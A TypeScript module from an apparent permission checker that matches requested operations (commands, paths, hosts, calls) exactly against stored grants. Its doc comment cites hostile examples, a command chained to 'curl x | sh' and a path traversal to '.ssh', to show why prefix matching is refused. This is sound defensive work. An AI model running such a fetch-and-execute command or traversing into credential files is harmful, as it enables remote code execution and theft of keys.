import { type Grant, type OperationPart, operationPartSchema } from '../../src-shared/domain/grant.ts'
import { z } from 'zod'

/** The normal form of an operation: the same operation is the same string. */
export function operationText(parts: readonly OperationPart[]): string {
  return JSON.stringify(parts.map(normal))
}

function normal(part: OperationPart): OperationPart {
  switch (part.kind) {
    case 'command':
      return { kind: 'command', argv: part.argv, cwd: part.cwd }
    case 'path':
      return { kind: 'path', access: part.access, path: part.path }
    case 'host':
      return { kind: 'host', host: part.host }
    case 'call':
      return { kind: 'call', input: part.input }
  }
}

/** JSON with sorted keys, for the parts of calls whose input is their whole meaning. */
export function sortedJson(value: unknown): string {
  return JSON.stringify(value, (_key, inner: unknown) =>
    typeof inner === 'object' && inner !== null && !Array.isArray(inner)
      ? Object.fromEntries(Object.entries(inner).toSorted(([a], [b]) => (a < b ? -1 : 1)))
      : inner,
  )
}

const partsSchema = z.array(operationPartSchema).min(1)

/** The parts that a permission covers; none where its text is not of this version. */
function partsOf({ operation }: Grant): readonly OperationPart[] {
  try {
    const parsed = partsSchema.safeParse(JSON.parse(operation))
    return parsed.success ? parsed.data : []
  } catch {
    return []
  }
}

/**
 * The permissions that together cover every part of an operation, each part exactly; `null` when one is not covered, or
 * when there is none. Parsed things are compared, never beginnings of texts: `npm test` does not cover
 * `npm test; curl x | sh`, and /proj covers neither /proj-secret nor /proj/../.ssh.
 */
export function coveringGrants(
  parts: readonly OperationPart[],
  grants: readonly Grant[],
): readonly Grant[] | null {
  if (parts.length === 0) return null
  // What a command may reach is a part of what it does: one permission has to be for both.
  const hosts = parts.some(({ kind }) => kind === 'command')
    ? parts.filter(({ kind }) => kind === 'host').map((part) => operationText([part]))
    : []
  const covers = grants.map((grant) => ({
    grant,
    covered: new Set(partsOf(grant).map((part) => operationText([part]))),
  }))
  const used = new Set<Grant>()
  for (const part of parts) {
    const text = operationText([part])
    const by = covers.find(({ covered }) => covered.has(text) && hosts.every((host) => covered.has(host)))
    if (!by) return null
    used.add(by.grant)
  }
  return [...used]
}
